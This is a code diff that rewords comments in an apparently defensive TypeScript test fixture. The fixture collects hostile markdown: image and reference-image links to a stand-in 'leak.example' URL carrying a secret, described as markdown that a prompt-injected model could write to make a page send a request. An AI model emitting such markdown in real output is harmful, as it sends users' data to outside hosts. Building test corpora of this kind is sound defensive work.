@@ -4,12 +4,12 @@ import { join } from 'node:path'
 const folder = join(import.meta.dirname, '../../../shared/corpora/markdown-bypass')
 const names = existsSync(folder) ? readdirSync(folder).filter((name) => name.endsWith('.md')) : []
 
-/** Why there are no others than our own, or nothing. */
+/** Reason why the public corpus is missing, or undefined. */
 export const missingCorpus = names.length === 0 ? `the bypass corpus is not at ${folder}` : undefined
 
 const leak = 'https://leak.example/p?d=secret'
 
-/** What the public corpus lacks: every way to a request that we know of, as a model might be told to write it. */
+/** Markdown that the public corpus lacks: all known ways to cause a request, as an injected model could write them. */
 const own: Readonly<Record<string, string>> = {
   image: `![a](${leak})`,
   'image by reference': `![a][b]\n\n[b]: ${leak}`,
@@ -119,7 +119,7 @@ export interface HostileText {
   text: string
 }
 
-/** Texts that try to make a page ask somebody for something. */
+/** Texts that try to make a page send a request. */
 export const hostileMarkdown: readonly HostileText[] = [
   ...Object.entries(own).map(([name, text]) => ({ name, text })),
   ...names.map((name) => ({ name, text: readFileSync(join(folder, name), 'utf8') })),
